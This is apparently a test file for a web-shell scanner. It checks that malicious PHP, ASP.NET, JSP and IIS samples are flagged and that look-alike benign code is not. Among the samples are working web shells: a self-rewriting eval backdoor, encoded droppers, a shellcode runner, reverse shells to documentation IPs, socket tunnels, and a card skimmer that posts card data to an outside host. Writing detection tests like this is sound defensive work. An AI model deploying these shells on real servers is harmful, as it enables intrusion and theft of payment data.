import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createScanner } from './scanner.js';

// The misses of session 27's held-out sets P and Q, looked at after their first scan (the figures in
// docs/scan.md are that scan's), each technique written again by us: the sets stay outside the
// project. Beside each, code of the same shape that is not a shell.
const scanner = createScanner({});
const scan = (src: string, path = '/www/x.php') => scanner.scanBuffer(Buffer.from(src, 'latin1'), path);
const b64 = (s: string) => Buffer.from(s, 'latin1').toString('base64');

// [what, the rule that must be among the findings, path, the file]
const MALICIOUS: [string, string, string, string][] = [
  ['an "immortal" shell: the request may end, a loop that never ends writes a hidden PHP file again', 'mamori:immortal-rewriter', '/www/i.php', `<?php
ignore_user_abort(true);
set_time_limit(0);
@unlink(__FILE__);
$f = dirname(__FILE__) . '/.cache-' . 'x.php';
$body = '<?php if (md5($_POST["k"]) == "0cc175b9c0f1b6a831c399e269772661") { @eval($_POST["c"]); } ?>';
while (1) {
  if (!file_exists($f) || md5_file($f) !== md5($body)) file_put_contents($f, $body);
  usleep(2000);
}`],
  ['an immortal shell rewriting its own file from an encoded copy, for (;;) and fwrite', 'mamori:immortal-rewriter', '/www/j.php', `<?php set_time_limit(0); ignore_user_abort(1);
for (;;) { $h = fopen(__FILE__, 'w'); fwrite($h, base64_decode('${b64('<?php system($_GET[1]);')}')); fclose($h); touch(__FILE__, mktime(9, 0, 0, 1, 1, 2019)); sleep(1); }`],
  ['a one-line dropper writing encoded PHP under a .php name of its own', 'mamori_php_encoded_php_dropper', '/www/d.php', `<?php
file_put_contents("a9x2k.php", base64_decode("${b64('<?php header("Location: http://spam.example/"); ?>')}"));`],
  ['a dropper writing gzip-compressed PHP', 'mamori_php_encoded_php_dropper', '/www/d2.php', `<?php
@file_put_contents('wp-conf.php', @gzinflate("\\xcb\\x48\\xcd\\xc9\\xc9\\x07\\x00"));`],
  ['ASP.NET: a shellcode runner importing its functions at run time (DefinePInvokeMethod), bytes copied into the memory', 'mamori_aspx_shellcode_runner', '/www/r.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Reflection.Emit" %>
<%@ Import Namespace="System.Runtime.InteropServices" %>
<script runat="server">
static object Call(string lib, string fn, object[] args, Type[] types, Type ret) {
  var ab = AppDomain.CurrentDomain.DefineDynamicAssembly(new AssemblyName("a"), AssemblyBuilderAccess.Run);
  var mb = ab.DefineDynamicModule("m");
  var m = mb.DefinePInvokeMethod(fn, lib, MethodAttributes.Public | MethodAttributes.Static | MethodAttributes.PinvokeImpl, CallingConventions.Standard, ret, types, CallingConvention.Winapi, CharSet.Ansi);
  mb.CreateGlobalFunctions();
  return mb.GetMethod(fn).Invoke(null, args);
}
protected void Page_Load(object s, EventArgs e) {
  byte[] sc = Unseal(Blob);
  IntPtr mem = (IntPtr)Call(Dec(K1), Dec(F1), new object[] { IntPtr.Zero, (uint)sc.Length, 0x3000u, 0x40u }, new[] { typeof(IntPtr), typeof(uint), typeof(uint), typeof(uint) }, typeof(IntPtr));
  Marshal.Copy(sc, 0, mem, sc.Length);
  Call(Dec(K1), Dec(F2), new object[] { 0u, 0u, mem, IntPtr.Zero, 0u, IntPtr.Zero }, null, typeof(IntPtr));
}
</script>`],
  // set Q
  ['a decoder of the file XOR-ing a blob with a key taken from the Referer, its result run by eval', 'mamori:flow', '/www/w.php', `<?php
function k() { parse_str(parse_url($_SERVER['HTTP_REFERER'], PHP_URL_QUERY), $q); $q = array_values($q);
  $blob = base64_decode('${b64('\x11\x07\x02\x1b')}');
  eval(unmix($blob, $q[0])); }
function unmix($t, $key) { return $t ^ str_pad('', strlen($t), $key); }
k();`],
  ['IIS: a web.config that hands .config files to asp.dll, with ASP after it', 'mamori_webconfig_script_handler', '/www/uploads/web.config', `<?xml version="1.0" encoding="UTF-8"?>
<configuration><system.webServer>
<handlers accessPolicy="Read, Script, Write"><add name="cfg" path="*.config" verb="*" modules="IsapiModule" scriptProcessor="%windir%\\system32\\inetsrv\\asp.dll" resourceType="Unspecified" /></handlers>
<security><requestFiltering><hiddenSegments><remove segment="web.config" /></hiddenSegments></requestFiltering></security>
</system.webServer></configuration>
<!--
<% Set o = CreateObject("WScript.Shell") : Response.Write o.Exec("cmd /c whoami").StdOut.ReadAll() %>
-->`],
  ['ASP.NET: a socket connected out, each command read from it run by Process.Start', 'mamori_aspx_socket_shell', '/www/rs.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
protected void Page_Load(object s, EventArgs e) {
  var c = new TcpClient(); c.Connect("192.0.2.10", 4444); var ns = c.GetStream(); var buf = new byte[512];
  while (true) { int n = ns.Read(buf, 0, buf.Length); string cmd = System.Text.Encoding.ASCII.GetString(buf, 0, n);
    var psi = new System.Diagnostics.ProcessStartInfo("c" + "md", "/c " + cmd) { RedirectStandardOutput = true, UseShellExecute = false };
    var p = System.Diagnostics.Process.Start(psi); var o = System.Text.Encoding.ASCII.GetBytes(p.StandardOutput.ReadToEnd()); ns.Write(o, 0, o.Length); }
}
</script>`],
  ['ASP.NET: a tunnel pumping the request body into a TCP connection and back', 'mamori_aspx_request_socket_tunnel', '/www/t.aspx', `<%@ Page Language="C#" %>
<script runat="server">
protected void Page_Load(object s, EventArgs e) {
  byte[] body = Request.BinaryRead(Request.ContentLength);
  var target = Parse(body); var c = new System.Net.Sockets.TcpClient();
  c.BeginConnect(target.Host, target.Port, null, null).AsyncWaitHandle.WaitOne(3000);
  var st = c.GetStream(); st.Write(target.Data, 0, target.Data.Length);
  var buf = new byte[8192]; int n = st.Read(buf, 0, buf.Length); Response.OutputStream.Write(buf, 0, n);
}
</script>`],
  ['JSP: a tunnel pumping the request body into a socket and the socket into the response', 'mamori_jsp_request_socket_tunnel', '/www/t.jsp', `<%@ page import="java.io.*,java.net.*" %><%!
void relay(HttpServletRequest req, HttpServletResponse resp) throws Exception {
  InputStream in = req.getInputStream(); java.util.Map<String, byte[]> m = frame(in);
  Socket sc = new Socket(); sc.connect(new InetSocketAddress(new String(m.get("h")), Integer.parseInt(new String(m.get("p")))), 5000);
  OutputStream out = resp.getOutputStream(); OutputStream so = sc.getOutputStream(); InputStream si = sc.getInputStream();
  so.write(m.get("d")); byte[] b = new byte[8192]; int n = si.read(b); out.write(b, 0, n);
}
%><% relay(request, response); %>`],
  ['JSP: a URL-encoded page written under the web root as a .jsp', 'mamori_jsp_encoded_page_dropper', '/www/d.jsp', `<%@ page import="java.io.*,java.net.URLDecoder" %><%
String p = application.getRealPath("/") + "img/x.jsp";
String page1 = URLDecoder.decode("%3c%25%20out.print(%22hi%22)%3b%20%25%3e", "UTF-8");
Writer w = new BufferedWriter(new FileWriter(p)); w.write(page1); w.close();
%>`],
  ['ASP.NET: cmd.exe started with "/c " and a TextBox\'s text, through variables', 'mamori_aspx_process_control_input', '/www/c.aspx', `<%@ Page Language="C#" %>
<script runat="server">
void Run(object s, EventArgs e) {
  string exe = "cmd.exe";
  string args = " /c " + txtCmd.Text + " > " + tmp;
  System.Diagnostics.Process.Start(exe, args);
}
</script>
<asp:TextBox ID="txtCmd" runat="server" /><asp:Button runat="server" OnClick="Run" Text="Go" />`],
  // sets R and S (collected after P's and Q's fixes)
  ['ASP.NET: a reverse shell whose Process is started by its own Start(), FileName set on its StartInfo', 'mamori_aspx_socket_shell', '/www/r2.aspx', `<%@ Page Language="C#" %>
<script runat="server">
protected void Page_Load(object s, EventArgs e) {
  using (var c = new System.Net.Sockets.TcpClient()) { c.Connect("203.0.113.5", 9001);
    var rd = new System.IO.StreamReader(c.GetStream()); var wr = new System.IO.StreamWriter(c.GetStream()) { AutoFlush = true };
    for (;;) { string line = rd.ReadLine(); var p = new System.Diagnostics.Process();
      p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Arguments = "/c " + line; p.StartInfo.RedirectStandardOutput = true; p.StartInfo.UseShellExecute = false;
      p.Start(); wr.WriteLine(p.StandardOutput.ReadToEnd()); } }
}
</script>`],
  ['JSP: a page that makes an attack kit\'s memory-shell template', 'mamori_jsp_attack_kit_class', '/www/m.jsp', `<%@ page import="com.feihong.ldap.template.*" %>
<% Object o = new TomcatMemshellTemplate2(); out.print("ok"); %>`],
];

// [what, path, the file]: code of the same shapes that is not a shell
const BENIGN: [string, string, string][] = [
  ['a cron endpoint that keeps running after the visitor leaves and writes its log', '/www/cron.php', `<?php
ignore_user_abort(true);
set_time_limit(0);
foreach (due_jobs() as $job) { run_job($job); file_put_contents(__DIR__ . '/logs/cron.log', date('c') . " {$job}\\n", FILE_APPEND); }`],
  ['a long-polling endpoint: a loop that ends when there is news, ignore_user_abort off', '/www/poll.php', `<?php
ignore_user_abort(false);
while (true) { $n = check_news(); if ($n) { echo json_encode($n); break; } if (connection_aborted()) break; usleep(250000); }`],
  ['an installer writing config.php from a template kept as text', '/www/install/step3.php', `<?php
$tpl = file_get_contents(__DIR__ . '/config.tpl');
file_put_contents('../config.php', strtr($tpl, array('{DB}' => var_export($db, true))));`],
  ['an importer writing a decoded image under a name of its own', '/www/admin/import.php', `<?php
file_put_contents('uploads/logo.png', base64_decode($settings['logo']));`],
  ['ASP.NET: a page calling a native library it declares with DllImport, no memory written', '/www/info.aspx', `<%@ Page Language="C#" %>
<script runat="server">
[System.Runtime.InteropServices.DllImport("kernel32.dll")] static extern uint GetTickCount();
protected void Page_Load(object s, EventArgs e) { byte[] b = new byte[4]; System.Runtime.InteropServices.Marshal.Copy(new IntPtr(0), b, 0, 0); Response.Write(GetTickCount()); }
</script>`],
  ['a cipher of the app XOR-ing with a key the visitor sends, its result printed (not run)', '/www/lib/otp.php', `<?php
function otp($t, $k) { return $t ^ str_pad('', strlen($t), $k); }
echo bin2hex(otp('secret text', $_GET['k'] ?? ''));`],
  ['IIS: a web.config with its usual handlers and rewrite rules', '/www/web.config', `<?xml version="1.0" encoding="UTF-8"?>
<configuration><system.webServer>
<handlers><add name="PHP" path="*.php" verb="*" modules="FastCgiModule" scriptProcessor="C:\\php\\php-cgi.exe" resourceType="File" /></handlers>
<rewrite><rules><rule name="wp"><match url=".*" /><action type="Rewrite" url="index.php" /></rule></rules></rewrite>
</system.webServer></configuration>`],
  ['ASP.NET: a status page checking that the mail server answers on its port', '/www/status.aspx', `<%@ Page Language="C#" %>
<script runat="server">
protected void Page_Load(object s, EventArgs e) {
  using (var c = new System.Net.Sockets.TcpClient()) { c.Connect("mail.example.org", 25); var st = c.GetStream(); var b = new byte[128]; st.Read(b, 0, b.Length); Response.Write(Server.HtmlEncode(System.Text.Encoding.ASCII.GetString(b))); }
}
</script>`],
  ['JSP: a health check connecting to the database port, reading an uploaded CSV', '/www/health.jsp', `<%@ page import="java.io.*,java.net.*" %><%
Socket s = new Socket(); s.connect(new InetSocketAddress("db.internal", 5432), 2000); s.close();
BufferedReader r = new BufferedReader(new InputStreamReader(request.getInputStream())); out.print(r.readLine());
%>`],
  ['JSP: a setup page writing a .jsp from a template file of the application', '/www/setup.jsp', `<%@ page import="java.io.*" %><%
String tpl = new String(java.nio.file.Files.readAllBytes(new File(application.getRealPath("/WEB-INF/home.tpl")).toPath()), "UTF-8");
Writer w = new FileWriter(application.getRealPath("/home.jsp")); w.write(tpl.replace("{SITE}", "Shop")); w.close();
%>`],
  ['ASP: a page reading a registry value through WScript.Shell', '/www/ver.asp', `<%
Set sh = CreateObject("WScript.Shell")
Response.Write Server.HTMLEncode(sh.RegRead("HKLM\\SOFTWARE\\Shop\\Version"))
%>`],
  ['a logger whose destructor writes its buffer to its file, settings unserialized from the database', '/www/lib/Log.php', `<?php
class Log { public $file = '/var/log/app.log'; public $buf = ''; function __destruct() { file_put_contents($this->file, $this->buf, FILE_APPEND); } }
$prefs = unserialize($db->fetchPrefs($uid));`],
  ['a dependency container making classes through ReflectionClass, a request parameter chooses the page', '/www/lib/Container.php', `<?php
class Container { function make($c) { $r = new ReflectionClass($c); return $r->newInstanceArgs(array()); } }
$page = (new Container())->make('Page' . ucfirst(preg_replace('/\W/', '', $_GET['p'] ?? 'home')));
echo $page->render();`],
  ['a payment plugin posting the card fields as they are to its gateway, with Basic authorization', '/www/wp-content/plugins/pay/gateway.php', `<?php
function pay_charge($order) {
  $auth = 'Basic ' . base64_encode(get_option('pay_key') . ':');
  $body = array('number' => $_POST['pay_card_number'], 'cvc' => $_POST['pay_card_cvc'], 'exp' => $_POST['pay_card_expiry'], 'amount' => $order->get_total());
  return wp_remote_post('https://api.gateway.example/v1/charges', array('headers' => array('Authorization' => $auth), 'body' => $body));
}`],
  ['a plugin object made with a callback name it stores and calls on its own value, nothing from the request', '/www/lib/Filter.php', `<?php
class Filter { private $fn; function __construct($fn) { $this->fn = $fn; } function apply($v) { $f = $this->fn; return $f($v); } }
$trim = new Filter('trim');
echo htmlspecialchars($trim->apply($_GET['q'] ?? ''));`],
  ['a small router calling the handler the request names, command names only in its refusal list', '/www/r.php', `<?php
$h = array('list' => 'list_items', 'show' => 'show_item');
if (in_array($_GET['a'] ?? '', array('system', 'exec', 'passthru'))) die('no');
if (isset($h[$_GET['a'] ?? ''])) echo $h[$_GET['a']]((int) ($_GET['id'] ?? 0));`],
];

describe('scan: held-out sets P and Q (session 27), their misses, samples of our own', () => {
  for (const [name, rule, path, src] of MALICIOUS) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
      assert.ok(r.findings.some((f) => f.rule === rule), `${rule} not among ${r.findings.map((f) => f.rule).join(', ')}`);
    });
  }
  for (const [name, path, src] of BENIGN) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.notEqual(r.verdict, 'malicious', JSON.stringify(r.findings));
    });
  }
  it('an upload stored under its client name read through the upload\'s entry held in a variable is suspicious (set Q)', () => {
    const r = scan(`<?php
$up = @$_FILES['f'];
if ($up['name'] != '') { $to = $_REQUEST['dir'] . $up['name']; move_uploaded_file($up['tmp_name'], $to); }
echo '<form method=post enctype=multipart/form-data><input type=file name=f><input name=dir></form>';`);
    assert.notEqual(r.verdict, 'clean', JSON.stringify(r.findings));
    assert.ok(r.findings.some((f) => f.technique === 'uploader'), JSON.stringify(r.findings));
  });
  it('an ASP page running a command of its own through WScript.Shell and printing it is suspicious (set S)', () => {
    const r = scan(`<%
Set sh = CreateObject("WScript.Shell")
Set x = sh.Exec("ipconfig /all")
Response.Write x.StdOut.ReadAll()
%>`, '/www/info.asp');
    assert.equal(r.verdict, 'suspicious', JSON.stringify(r.findings));
    assert.ok(r.findings.some((f) => f.rule === 'mamori_asp_wscript_output'), JSON.stringify(r.findings));
  });
  it('a card skimmer is flagged by its own finding, a gateway posting the same fields with Basic authorization is not (S26R-42)', () => {
    const skim = scan(`<?php
add_action('woocommerce_checkout_process', function () {
  $d = array('c' => $_POST['billing_card'] ?? '', 'v' => $_POST['billing_cvv'] ?? '');
  wp_remote_post('https://stats.example.net/p', array('body' => array('x' => base64_encode(json_encode($d)))));
});`, '/www/wp-content/plugins/s/s.php');
    assert.ok(skim.findings.some((f) => f.rule === 'mamori:card-skimmer'), JSON.stringify(skim.findings));
    assert.notEqual(skim.verdict, 'clean');
    const gateway = scan(BENIGN.find(([what]) => what.startsWith('a payment plugin'))![2], '/www/wp-content/plugins/pay/gateway.php');
    assert.ok(!gateway.findings.some((f) => f.rule === 'mamori:card-skimmer'), JSON.stringify(gateway.findings));
  });
  it('S26R-23: a static property call and the minimal copy() uploader, injected into application files of 20 and 70 KB, stay malicious', () => {
    const host = (kb: number) => {
      const parts: string[] = [];
      for (let i = 0; parts.join('').length < kb * 1024; i++) parts.push(`function wp_fmt_${i}($s, $n = ${i}) {\n\t$s = trim((string) $s);\n\treturn esc_html(strtolower($s)) . '-' . absint($n);\n}\n\n`);
      return parts;
    };
    const shells = [
      "class Reg { public static $fn = 'system'; }\n(Reg::$fn)($_GET['c']);\n",
      "echo '<form method=\"post\" enctype=\"multipart/form-data\"><input type=\"file\" name=\"x\"></form>';\nif (@copy($_FILES['x']['tmp_name'], $_FILES['x']['name'])) { echo 'ok'; }\n",
    ];
    for (const kb of [20, 70]) {
      const parts = host(kb);
      for (const shell of shells) {
        const file = `<?php\n${parts.slice(0, parts.length >> 1).join('')}${shell}${parts.slice(parts.length >> 1).join('')}`;
        const r = scan(file, '/www/wp-includes/formatting.php');
        assert.equal(r.verdict, 'malicious', `${kb} KB: ${shell.slice(0, 40)}: ${JSON.stringify(r.findings.map((f) => `${f.rule} ${f.score}`))}`);
      }
    }
  });
  it('after the red team\'s merge: a write with its functions rooted in the global namespace (\\file_put_contents, \\base64_decode) is read as written without the backslash; a downloader object\'s copy() method is not PHP\'s copy()', () => {
    const rooted = scan(`<?php\n\\file_put_contents(__DIR__ . '/x.php', \\base64_decode($_POST['c']));\n`);
    assert.equal(rooted.verdict, 'malicious', JSON.stringify(rooted.findings));
    const updater = scan(`<?php
class SelfUpdate { function run($http, $tmp) { $base = 'https://' . 'get.example.org'; $remote = $base . '/tool.phar'; $http->copy($remote, $tmp . '/tool-new.phar'); return openssl_verify(file_get_contents($tmp . '/tool-new.phar'), $sig, $key); } }`, '/usr/share/php/Tool/Command/SelfUpdate.php');
    assert.ok(!updater.findings.some((f) => f.rule === 'mamori:remote-code-file'), JSON.stringify(updater.findings));
  });
  it('ran every case', () => {
    assert.equal(MALICIOUS.length, 14);
    assert.equal(BENIGN.length, 16);
  });
});
